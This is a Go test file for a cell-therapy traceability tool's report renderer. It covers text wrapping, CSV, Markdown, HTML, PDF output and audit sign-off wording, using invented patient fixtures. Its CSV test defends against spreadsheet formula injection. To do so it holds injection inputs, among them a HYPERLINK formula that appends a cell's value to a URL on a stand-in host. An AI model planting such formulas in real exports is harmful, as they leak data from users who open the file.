package report

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/celltrack/celltrack/internal/pdftest"
	"github.com/celltrack/celltrack/lot"
)

// sample is a report with everything a renderer must cope with: a long
// database path, a long table, an autologous warning, details, a reason,
// a table cell with a pipe and an infusion.
func sample() Report {
	at := time.Date(2026, 11, 25, 9, 0, 0, 0, time.UTC)
	return Report{
		Kind: "patient", Subject: "MRN-2001", Title: "Backward trace of patient MRN-2001",
		Question: "Which containers, lots and donors did patient MRN-2001 receive cells from, and who handled them on the way?",
		Produced: Provenance{At: at, By: "aud", ByName: "Ada Auditor", ByRole: "auditor",
			Database:  "/srv/celltrack/a/very/long/path/that/does/not/fit/on/one/line/of/an/eighty/column/terminal/celltrack.db",
			AuditHead: strings.Repeat("ab", 32), AuditEntries: 321, Verified: true},
		Sections: []Section{
			{Title: "Patient MRN-2001", Fields: []Field{{"MRN", "MRN-2001"}, {"Name", "Hana Sato"}}},
			{Title: "Lot LOT-RF-1", Warning: "FOR AUTOLOGOUS USE ONLY — patient MRN-2001",
				Fields: []Field{{"Cells", lot.Cells(1_200_000_000).String()}}},
			{Title: "Handlers", Table: &Table{
				Columns: []string{"Handler", "Full name", "Role", "Recorded", "Custodian", "Containers"},
				Rows: [][]string{{"nina", "Nina Rossi, Registered Nurse, Infusion Unit | Ward 5", "nurse", "12", "7", "3"},
					{"liu", "Liu Wei", "lab", "1", "1", "1"}}}},
		},
		Events: []Event{
			{Kind: Custody, At: at, Lot: "LOT-RF-1", Container: "G12342600000201", To: "created", By: "liu", Custodian: "liu", Location: "LN2-A rack 3"},
			{Kind: Custody, At: at.Add(time.Hour), Lot: "LOT-RF-1", Container: "G12342600000201", From: "created", To: "shipped", By: "liu",
				Site: "LAB", Custodian: "courier", Details: map[string]string{"to": "CLINIC-1", "courier": "ColdChain Logistics International Ltd", "condition": "dry shipper below -150 °C"}},
			{Kind: Custody, At: at.Add(2 * time.Hour), Lot: "LOT-RF-1", Container: "G12342600000202", From: "created", To: "discarded", By: "liu", Reason: "bag cracked"},
			{Kind: Infusion, At: at.Add(3 * time.Hour), Lot: "LOT-RF-1", Container: "G12342600000201", To: "infused", By: "nina", Patient: "MRN-2001",
				Details: map[string]string{"cells": "5.00×10^7", "witness": "omar"}},
		},
	}
}

func renderString(t *testing.T, r Report, format string) string {
	t.Helper()
	var b bytes.Buffer
	if err := Render(&b, r, format); err != nil {
		t.Fatalf("%s: %v", format, err)
	}
	return b.String()
}

func TestTextFits80Columns(t *testing.T) {
	out := renderString(t, sample(), "text")
	for i, line := range strings.Split(out, "\n") {
		if n := len([]rune(line)); n > TextWidth {
			t.Errorf("line %d is %d columns wide: %q", i+1, n, line)
		}
	}
	// Nothing is lost to wrapping: the long path and hash are all there.
	joined := strings.Join(strings.Fields(out), "")
	for _, want := range []string{strings.ReplaceAll(sample().Produced.Database, " ", ""), strings.Repeat("ab", 32),
		"***FORAUTOLOGOUSUSEONLY—patientMRN-2001***", "courier=ColdChainLogisticsInternationalLtd", "reasonbagcracked", "INFUSED"} {
		if !strings.Contains(joined, want) {
			t.Errorf("text report lost %q", want)
		}
	}
}

func TestWrap(t *testing.T) {
	for _, c := range []struct {
		in          string
		first, rest int
		want        []string
	}{
		{"a bb ccc", 4, 4, []string{"a bb", "ccc"}},
		{"abcdefghij", 4, 3, []string{"abcd", "efg", "hij"}},
		{"", 10, 10, []string{""}},
		{"one two", 80, 80, []string{"one two"}},
	} {
		if got := wrap(c.in, c.first, c.rest); strings.Join(got, "|") != strings.Join(c.want, "|") {
			t.Errorf("wrap(%q, %d, %d) = %q, want %q", c.in, c.first, c.rest, got, c.want)
		}
	}
}

// wrapRunes is wrap as it was before it was made to allocate less: the
// reference FuzzWrap holds it to.
func wrapRunes(s string, first, rest int) []string {
	var lines []string
	width := first
	var cur []rune
	for _, word := range strings.Fields(s) {
		wr := []rune(word)
		for {
			need := len(wr)
			if len(cur) > 0 {
				need++
			}
			if len(cur)+need <= width {
				if len(cur) > 0 {
					cur = append(cur, ' ')
				}
				cur = append(cur, wr...)
				break
			}
			if len(cur) > 0 {
				lines, cur, width = append(lines, string(cur)), nil, rest
				continue
			}
			lines, wr, width = append(lines, string(wr[:width])), wr[width:], rest
		}
	}
	if len(cur) > 0 || len(lines) == 0 {
		lines = append(lines, string(cur))
	}
	return lines
}

// FuzzWrap holds wrap — its shortcut for a line that fits as it is and
// its byte-offset wrapping — to the plain rune-by-rune wrapping it replaced.
func FuzzWrap(f *testing.F) {
	for _, s := range []string{"", "one two", "one  two", " one", "one ", "tab\there", "new\nline", "café au lait",
		"exactly ten", "0123456789", "01234567890", "a\u00a0b", "x\x7fy", "bad \xff byte", "10→20 ×10^9", "em\u2003space", "ünïcödé wörds", "a-very-long-wörd-that-must-be-cut here", "\xff\xfe\xfd split"} {
		f.Add(s, 10, 4)
	}
	f.Fuzz(func(t *testing.T, s string, first, rest int) {
		if first < 1 || first > 200 || rest < 1 || rest > 200 {
			return
		}
		got, want := wrap(s, first, rest), wrapRunes(s, first, rest)
		if strings.Join(got, "\n") != strings.Join(want, "\n") || len(got) != len(want) {
			t.Errorf("wrap(%q, %d, %d) = %q, want %q", s, first, rest, got, want)
		}
	})
}

func TestCSVOneRowPerEvent(t *testing.T) {
	r := sample()
	rows, err := csv.NewReader(strings.NewReader(renderString(t, r, "csv"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(r.Events)+1 || strings.Join(rows[0], ",") != strings.Join(CSVColumns, ",") {
		t.Fatalf("got %d rows, header %q", len(rows), rows[0])
	}
	if got := strings.Join(rows[2][:15], ","); got != "patient,MRN-2001,custody,2026-11-25T10:00:00Z,LOT-RF-1,G12342600000201,created,shipped,liu,LAB,,courier,,,condition=dry shipper below -150 °C; courier=ColdChain Logistics International Ltd; to=CLINIC-1" {
		t.Errorf("shipped row: %s", got)
	}
	if last := rows[len(rows)-1]; last[2] != Infusion || last[17] != r.Produced.Database || last[18] != r.Produced.AuditHead || last[19] != "true" {
		t.Errorf("infusion row: %q", last)
	}
}

func TestMarkdownKeepsTablesIntact(t *testing.T) {
	md := renderString(t, sample(), "md")
	if !strings.Contains(md, `Infusion Unit \| Ward 5`) {
		t.Error("a pipe in a cell was not escaped")
	}
	if !strings.Contains(md, "## Sign-off") || !strings.Contains(md, "- **Audit verify:** PASSED") {
		t.Error("markdown lacks the sign-off or the verify verdict")
	}
}

func TestParseFormat(t *testing.T) {
	if f, err := ParseFormat(" PDF "); err != nil || f != "pdf" {
		t.Errorf("PDF: %q %v", f, err)
	}
	if _, err := ParseFormat("docx"); lot.ErrorCode(err) != lot.EUSAGE || !strings.Contains(err.Error(), "text, md, json, csv, html, pdf") {
		t.Errorf("docx: %v", err)
	}
}

// TestPDFText extracts the PDF's text with pdftotext (Debian poppler-utils)
// and checks that what an auditor signs off is all there.
func TestPDFText(t *testing.T) {
	r := sample()
	r.Produced.Verified, r.Produced.Problems = false, []string{"audit entry 5 was altered"}
	text := extractPDFText(t, []byte(renderString(t, r, "pdf")))
	for _, want := range []string{"Backward trace of patient MRN-2001", "aud (Ada Auditor, auditor)", strings.Repeat("ab", 32),
		"FAILED", "audit entry 5 was altered", "FOR AUTOLOGOUS USE ONLY — patient MRN-2001", "1.20×10^9", "G12342600000202",
		"created →", "shipped", "bag cracked", "audit verify:", "Sign-off", "Reviewed by (name):", "Signature:", "Date:", "page 1 of"} {
		if !strings.Contains(text, want) {
			t.Errorf("PDF text lacks %q", want)
		}
	}
	if t.Failed() {
		t.Logf("pdftotext output:\n%s", text)
	}
}

// TestPDFIsDeterministic: the same report renders to the same bytes, so a
// PDF can be regenerated and compared.
func TestPDFIsDeterministic(t *testing.T) {
	first, second := renderString(t, sample(), "pdf"), renderString(t, sample(), "pdf")
	if first != second {
		t.Error("two renderings of one report differ")
	}
}

// TestHTMLInChromium opens the HTML report in headless Chromium and checks
// the page it builds; the page must need nothing from outside the file.
func TestHTMLInChromium(t *testing.T) {
	html := renderString(t, sample(), "html")
	for _, external := range []string{"http://", "https://", "src=", "<link", "@import"} {
		if strings.Contains(html, external) {
			t.Errorf("HTML report refers to an external asset (%q); it must be self-contained", external)
		}
	}
	var bin string
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome"} {
		if p, err := exec.LookPath(name); err == nil {
			bin = p
			break
		}
	}
	if bin == "" {
		t.Skip("no Chromium installed (Debian: apt-get install chromium; .ci/run installs it): the HTML report is not opened in a browser")
	}
	dir := t.TempDir()
	path := filepath.Join(dir, "trace.html")
	if err := os.WriteFile(path, []byte(html), 0o600); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, bin, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
		"--user-data-dir="+filepath.Join(dir, "profile"), "--dump-dom", "file://"+path)
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Run(); err != nil {
		t.Fatalf("chromium: %v\n%s", err, stderr.String())
	}
	dom := stdout.String()
	for _, want := range []string{`<h1 id="title">Backward trace of patient MRN-2001</h1>`, "<dd>aud (Ada Auditor, auditor)</dd>",
		"<dd>" + strings.Repeat("ab", 32) + "</dd>", "FOR AUTOLOGOUS USE ONLY — patient MRN-2001",
		"<td>created → shipped</td>", `<section class="signoff" id="signoff">`, "<div>Signature</div>"} {
		if !strings.Contains(dom, want) {
			t.Errorf("the page Chromium built lacks %q", want)
		}
	}
	if rows := strings.Count(dom[strings.Index(dom, `id="events"`):], "<tr>"); rows != len(sample().Events)+1 {
		t.Errorf("events table has %d rows in the browser, want %d", rows, len(sample().Events)+1)
	}
	if t.Failed() {
		t.Logf("DOM:\n%s", dom)
	}
}

// extractPDFText returns the text pdftotext (Debian poppler-utils) extracts from a
// PDF with its layout, pages separated by form feeds; the test is skipped with a
// message when the tool is missing (.ci/run installs it).
func extractPDFText(t *testing.T, pdf []byte) string {
	t.Helper()
	return pdftest.Text(t, pdf, "-layout")
}

// TestPDFDrawsRowsTallerThanAPage: an infusion with thirty long reactions
// makes a row taller than an A4 page. It is drawn across pages, never
// dropped, and so are the rows after it.
func TestPDFDrawsRowsTallerThanAPage(t *testing.T) {
	r := sample()
	var reactions []string
	for i := range 30 {
		reactions = append(reactions, fmt.Sprintf("grade 2: fever and rigors %02d %s reaction-%02d-end", i, strings.Repeat("lorem ipsum dolor sit amet ", 6), i))
	}
	inf := &r.Events[3]
	inf.Details["reactions"] = strings.Join(reactions, " | ")
	at := inf.At
	for i := range 3 {
		r.Events = append(r.Events, Event{Kind: Custody, At: at.Add(time.Duration(i+1) * time.Hour), Lot: "LOT-RF-1",
			Container: fmt.Sprintf("G1234260000030%d", i), To: "created", By: "liu", Reason: fmt.Sprintf("after-the-tall-row-%d", i)})
	}
	text := extractPDFText(t, []byte(renderString(t, r, "pdf")))
	joined := strings.Join(strings.Fields(text), "")
	for _, want := range []string{"infused", "witness=omar", "G12342600000300", "after-the-tall-row-0", "after-the-tall-row-2"} {
		if !strings.Contains(text, want) {
			t.Errorf("PDF text lacks %q", want)
		}
	}
	for i := range 30 {
		if want := fmt.Sprintf("reaction-%02d-end", i); !strings.Contains(joined, want) {
			t.Errorf("PDF text lacks %q: the tall row was cut", want)
		}
	}
	if t.Failed() {
		t.Logf("pdftotext output:\n%s", text)
	}
}

// TestSignOffStatesTheVerificationScope: with only the report-scope check
// run, the sentence an auditor signs says NOT A FULL VERIFY as the header
// does, in every format with a sign-off, and never that audit verify passed.
func TestSignOffStatesTheVerificationScope(t *testing.T) {
	r := sample()
	at := r.Produced.At.Add(-time.Hour)
	r.Produced.Scope, r.Produced.RecordsVerified, r.Produced.ChainFrom, r.Produced.FullVerifyAt = ScopeReport, 17, 300, &at
	for _, format := range []string{"pdf", "md", "html"} {
		out := renderString(t, r, format)
		if format == "pdf" {
			out = extractPDFText(t, []byte(out))
		}
		out = strings.Join(strings.Fields(out), " ")
		i := strings.Index(out, "I have reviewed this patient trace of MRN-2001")
		if i < 0 {
			t.Errorf("%s: no sign-off sentence:\n%s", format, out)
			continue
		}
		signed := out[i:]
		if !strings.Contains(signed, "audit verify: NOT A FULL VERIFY: the 17 records in this report verified") ||
			!strings.Contains(signed, "chain verified from entry 300") || strings.Contains(strings.ToLower(signed), "passed") {
			t.Errorf("%s: the sign-off claims other than the header: %s", format, signed)
		}
	}
}

// TestPDFFooterNamesTheCommand: the footer names the command that makes the
// report — a handling report is not a trace.
func TestPDFFooterNamesTheCommand(t *testing.T) {
	r := sample()
	if text := extractPDFText(t, []byte(renderString(t, r, "pdf"))); !strings.Contains(text, "celltrack trace patient MRN-2001") {
		t.Errorf("trace footer: %s", text)
	}
	r.Kind, r.Subject, r.Data = "handling", "all infusions", &Table{Columns: []string{"a"}, Rows: [][]string{{"1"}}}
	text := extractPDFText(t, []byte(renderString(t, r, "pdf")))
	if !strings.Contains(text, "celltrack report handling (all infusions)") || strings.Contains(text, "celltrack trace handling") {
		t.Errorf("handling footer: %s", text)
	}
}

// TestPDFPrintsNamesInAnyEuropeanScript: the PDF embeds a Unicode font, so
// Polish, Greek and Cyrillic names print as written (the core PDF fonts
// turned them into '?'). A character the font still lacks (Chinese) is
// printed as its code point, never a bare '?', with a note on the page that
// names the field and sends the reader to the HTML or text report.
func TestPDFPrintsNamesInAnyEuropeanScript(t *testing.T) {
	r := sample()
	r.Sections[0].Fields[1].Value = "Łucja Wąsowska"
	r.Sections = append(r.Sections, Section{Title: "Recipients", Table: &Table{Columns: []string{"MRN", "Name"},
		Rows: [][]string{{"MRN-3001", "Ελένη Παπαδοπούλου"}, {"MRN-3002", "Ольга Смирнова"}, {"MRN-3003", "陈美玲"}}}})
	text := extractPDFText(t, []byte(renderString(t, r, "pdf")))
	for _, want := range []string{"Łucja Wąsowska", "Ελένη Παπαδοπούλου", "Ольга Смирнова", "[U+9648][U+7F8E][U+73B2]",
		"NOTE: Recipients, column Name, row MRN-3003: has characters this PDF's font cannot show"} {
		if !strings.Contains(text, want) {
			t.Errorf("PDF text lacks %q", want)
		}
	}
	if n := strings.Count(text, "?"); n != strings.Count(r.Question, "?") {
		t.Errorf("PDF text has %d '?' beyond the question's: a character was lost", n)
	}
	if strings.Contains(text, "NOTE: Name") {
		t.Errorf("a note for a field the font can draw")
	}
	if t.Failed() {
		t.Logf("pdftotext output:\n%s", text)
	}
}

// TestCmapRunes reads the embedded font's character map: Latin Extended,
// Greek and Cyrillic are there, Chinese is not.
func TestCmapRunes(t *testing.T) {
	has := pdfGlyphs()
	for _, r := range "AzŁąΕλОь×→—…" {
		if !has(r) {
			t.Errorf("DejaVu Sans lacks %q", r)
		}
	}
	for _, r := range "陈美玲\U0001F600" {
		if has(r) {
			t.Errorf("DejaVu Sans has %q?", r)
		}
	}
}

// TestCSVCellsNeverRunAsFormulas: a reason typed as a formula is written as
// text (a leading apostrophe), as is any cell starting with = + - @, a tab or
// a carriage return; a negative number stays a number.
func TestCSVCellsNeverRunAsFormulas(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{`=HYPERLINK("http://x.example/?"&A1,"click")`, `'=HYPERLINK("http://x.example/?"&A1,"click")`},
		{"+1+1", "'+1+1"}, {"-1+1", "'-1+1"}, {"@SUM(A1)", "'@SUM(A1)"}, {"\t=1", "'\t=1"}, {"\r=1", "'\r=1"},
		{"-12.5", "-12.5"}, {"-3", "-3"}, {"12", "12"}, {"", ""}, {"bag cracked", "bag cracked"}, {"a=b", "a=b"},
	} {
		if got := csvCell(c.in); got != c.want {
			t.Errorf("csvCell(%q) = %q, want %q", c.in, got, c.want)
		}
	}
	r := sample()
	r.Events[2].Reason = `=HYPERLINK("http://x.example","click")`
	rows, err := csv.NewReader(strings.NewReader(renderString(t, r, "csv"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := rows[3][13]; got != `'=HYPERLINK("http://x.example","click")` {
		t.Errorf("reason cell = %q", got)
	}
	r.Data = &Table{Columns: []string{"thaw_to_start_min", "note"}, Rows: [][]string{{"-4.0", "=1+1"}}}
	rows, err = csv.NewReader(strings.NewReader(renderString(t, r, "csv"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if rows[1][0] != "-4.0" || rows[1][1] != "'=1+1" {
		t.Errorf("data row = %q", rows[1])
	}
}
